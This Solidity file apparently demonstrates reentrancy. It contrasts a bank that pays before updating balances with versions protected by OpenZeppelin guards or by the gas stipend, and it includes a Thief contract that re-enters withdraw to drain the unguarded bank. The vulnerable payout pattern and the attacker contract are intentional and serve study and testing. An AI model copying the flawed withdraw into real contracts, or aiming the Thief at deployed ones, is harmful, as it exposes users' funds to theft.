// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.29;

import {ReentrancyGuard} from "@openzeppelin/contracts/utils/ReentrancyGuard.sol";
import {ReentrancyGuardTransient} from "@openzeppelin/contracts/utils/ReentrancyGuardTransient.sol";

/// Banks that pay before they book, with and without a guard, and who comes back while being paid.
abstract contract Bank {
    mapping(address => uint256) public balanceOf;

    event Paid(address indexed to, uint256 amount);

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function _withdraw() internal {
        uint256 amount = balanceOf[msg.sender];
        require(amount != 0, "nothing here");
        (bool ok, bytes memory reason) = msg.sender.call{value: amount}("");
        if (!ok) {
            assembly {
                revert(add(reason, 32), mload(reason))
            }
        }
        balanceOf[msg.sender] = 0;
        emit Paid(msg.sender, amount);
    }

    function withdraw() external virtual;
}

contract NaiveBank is Bank {
    function withdraw() external override {
        _withdraw();
    }
}

contract GuardedBank is Bank, ReentrancyGuard {
    function withdraw() external override nonReentrant {
        _withdraw();
    }
}

contract TransientBank is Bank, ReentrancyGuardTransient {
    function withdraw() external override nonReentrant {
        _withdraw();
    }
}

/// What `send` and `transfer` give their callee is enough for an event, and for no write.
contract StipendBank is Bank {
    event Sent(bool ok);

    function withdraw() external override {
        uint256 amount = balanceOf[msg.sender];
        balanceOf[msg.sender] = 0;
        payable(msg.sender).transfer(amount);
    }

    function trySend(address payable to) external payable returns (bool ok) {
        ok = to.send(msg.value);
        emit Sent(ok);
    }
}

contract Thief {
    Bank public immutable bank;
    uint256 public most;
    uint256 public times;
    bool public quiet;

    event Got(uint256 value, uint256 left);
    event Foiled(bytes reason);

    constructor(Bank bank_) payable {
        bank = bank_;
    }

    receive() external payable {
        emit Got(msg.value, address(bank).balance);
        times += 1;
        if (times >= most || address(bank).balance < msg.value) return;
        if (!quiet) return bank.withdraw();
        try bank.withdraw() {}
        catch (bytes memory reason) {
            emit Foiled(reason);
        }
    }

    function rob(uint256 most_, bool quiet_) external payable {
        (most, quiet, times) = (most_, quiet_, 0);
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }
}
